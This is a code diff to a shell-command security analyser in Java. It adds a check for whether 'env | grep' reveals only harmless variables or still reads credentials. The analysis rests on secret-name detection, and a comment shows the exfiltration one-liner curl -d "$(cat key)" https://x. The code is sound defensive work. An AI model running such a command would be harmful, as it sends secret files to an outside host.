@@ -102,6 +102,63 @@ final class Flows {
         return login ? Optional.of(program + " login") : Optional.empty();
     }
 
+    /** A variable's name, as grep is given it to pick one variable out of a dump ({@code ^PATH}, {@code JAVA_HOME=}). */
+    private static final java.util.regex.Pattern VARIABLE_NAME = java.util.regex.Pattern.compile("\\^?([A-Za-z_][A-Za-z0-9_]{2,})=?");
+
+    /**
+     * {@code env | grep -i ^path}: grep keeps only the lines of the variables it names. When every pattern is a plain
+     * everyday variable's name (PATH, JAVA_HOME), what reaches the screen is no secret; {@code -v}, pattern files and
+     * regular expressions keep the dump a credential read.
+     */
+    private static final Set<String> EVERYDAY_VARIABLES = Set.of("PATH", "HOME", "USER", "LOGNAME", "SHELL", "LANG", "LC_ALL",
+            "LC_CTYPE", "TERM", "EDITOR", "VISUAL", "PAGER", "PWD", "TZ", "DISPLAY", "HOSTNAME", "JAVA_HOME", "GOPATH", "GOROOT",
+            "PYTHONPATH", "VIRTUAL_ENV", "CONDA_DEFAULT_ENV", "NODE_ENV", "LD_LIBRARY_PATH", "MANPATH", "KUBECONFIG",
+            "AWS_PROFILE", "AWS_REGION", "AWS_DEFAULT_REGION", "CLOUDSDK_CORE_PROJECT", "XDG_CONFIG_HOME", "XDG_DATA_HOME",
+            "XDG_RUNTIME_DIR", "PROXY", "HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "CI", "DEBIAN_FRONTEND", "SSH_AUTH_SOCK");
+
+    static Optional<String> picksHarmlessVariables(Command stage, ShellWalk walk) {
+        List<String> words = words(stage, walk);
+        if (words.isEmpty() || !Set.of("grep", "egrep", "fgrep", "rg").contains(program(words))) {
+            return Optional.empty();
+        }
+        List<String> patterns = new ArrayList<>();
+        for (int i = 1; i < words.size(); i++) {
+            String w = words.get(i);
+            if (w.equals("-e") || w.equals("--regexp")) {
+                if (++i < words.size()) {
+                    patterns.add(words.get(i));
+                }
+            } else if (w.startsWith("--")) {
+                if (w.startsWith("--invert") || w.startsWith("--file") || w.startsWith("--regexp=")) {
+                    return Optional.empty();
+                }
+            } else if (w.startsWith("-") && w.length() > 1) {
+                if (!Regex.matches(w, "-[iwFxsqnchHoE]+")) {
+                    return Optional.empty(); // -v inverts, -f reads patterns, others take values we do not follow
+                }
+            } else if (patterns.isEmpty() || i > 1 && words.get(i - 1).equals("-e")) {
+                patterns.add(w);
+            } else {
+                return Optional.empty(); // a file to search as well: not a filter of the dump alone
+            }
+        }
+        if (patterns.isEmpty()) {
+            return Optional.empty();
+        }
+        for (String pattern : patterns) {
+            java.util.regex.Matcher m = VARIABLE_NAME.matcher(pattern);
+            if (!m.matches() || dev.interlock.analysis.shell.recognizers.CredentialRecognizer.secretName(m.group(1))) {
+                return Optional.empty();
+            }
+            // a prefix picks every variable it starts (^AWS: AWS_SECRET_ACCESS_KEY too), and a variable not named as a
+            // secret may still hold one (DATABASE_URL): only the everyday variables that hold no secret
+            if (!EVERYDAY_VARIABLES.contains(m.group(1).toUpperCase(java.util.Locale.ROOT))) {
+                return Optional.empty();
+            }
+        }
+        return Optional.of(program(words) + " " + String.join(" ", patterns));
+    }
+
     /** The host a network command named in its words talks to ({@code curl -d "$(cat key)" https://x}), or empty. */
     static Optional<String> networkCommand(List<Arg> words) {
         if (words.isEmpty() || !words.getFirst().literal()) {
